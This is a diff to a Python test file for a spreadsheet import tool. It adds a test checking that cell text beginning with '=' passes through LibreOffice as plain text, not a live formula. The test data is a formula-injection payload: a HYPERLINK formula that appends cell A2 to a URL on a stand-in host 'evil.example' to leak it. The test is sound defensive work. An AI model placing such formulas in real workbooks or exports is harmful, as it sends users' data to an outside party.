@@ -14,6 +14,7 @@ import datetime as dt
 import re
 import shutil
 import subprocess
+import zipfile
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -22,8 +23,10 @@ import openpyxl
 import pytest
 
 from scripts.model.package import load_package
-from scripts.xlsx.importer import import_workbook
-from scripts.xlsx.reader import escape_ooxml_text
+from scripts.xlsx.ooxml import escape_ooxml_text
+from scripts.xlsx.read.importer import import_workbook
+from scripts.xlsx.read.layout import read_layout
+from tests.faults.support import patch_part
 from tests.unit.xlsx_support import cell_changes, checksums, column_of, copy_package, edit, export, row_of
 
 pytestmark = pytest.mark.libreoffice
@@ -91,6 +94,22 @@ EDITS: dict[str, Callable[[Any], None]] = {
 }
 
 
+FORMULA_LIKE = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'
+
+
+def _formula_like(exported: Path, dest: Path) -> Path:
+    """The export as it is written for a text starting like a formula: the first topic's
+    description an inline string (openpyxl would turn such a text into a formula)."""
+    with zipfile.ZipFile(exported) as archive:
+        part = read_layout(archive, 1 << 26).sheets["topics"]
+        xml = archive.read(part).decode("utf-8")
+    cell = re.search(r'<c r="C2" [^>]*t="inlineStr"><is><t>[^<]*</t></is></c>', xml)
+    assert cell is not None
+    text = FORMULA_LIKE.replace("&", "&amp;")
+    return patch_part(exported, dest, part, lambda old: old.replace(
+        cell.group(0), re.sub(r"<t>[^<]*</t>", f"<t>{text}</t>", cell.group(0))))
+
+
 def soffice(args: list[str], profile: Path) -> None:
     done = subprocess.run([shutil.which("soffice") or "soffice", f"-env:UserInstallation={profile.as_uri()}",
                            "--headless", "--norestore", *args], capture_output=True, text=True, timeout=300)
@@ -108,6 +127,7 @@ def work(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
     edited = [edit(exported, base / "edited" / f"{name}.xlsx", change) if name != "untouched"
               else shutil.copy(exported, base / "edited" / "untouched.xlsx")
               for name, change in EDITS.items()]
+    edited.append(_formula_like(exported, base / "edited" / "formula_like.xlsx"))
     profile = base / "profile"
     soffice(["--convert-to", "xlsx", "--outdir", str(base / "resaved"), *map(str, edited)], profile)
     soffice(["--convert-to", "pdf", "--outdir", str(base / "pdf"), str(exported)], profile)
@@ -197,3 +217,14 @@ def test_lost_update_is_refused_after_a_resave(pkg, work):
                       encoding="utf-8")
     result = _import(pkg, work, "untouched")
     assert [p.rule for p in result.problems] == ["tables-changed"]
+
+
+def test_text_that_looks_like_a_formula_stays_text_through_libreoffice(pkg, work):
+    """A text starting with "=" is an inline string in the workbook: LibreOffice opens and saves it
+    as text (not as the live formula it spells), and the import reads back exactly that text."""
+    result = _import(pkg, work, "formula_like")
+    assert (result.problems, result.changed) == ([], ["topics"])
+    assert [(c.cell, c.field, c.new) for c in result.changes.cells] == [("topics!C2", "description", FORMULA_LIKE)]
+    with (pkg / "tables" / "topics.csv").open(encoding="utf-8", newline="") as handle:
+        first = next(csv.DictReader(handle))
+    assert first["description"] == FORMULA_LIKE
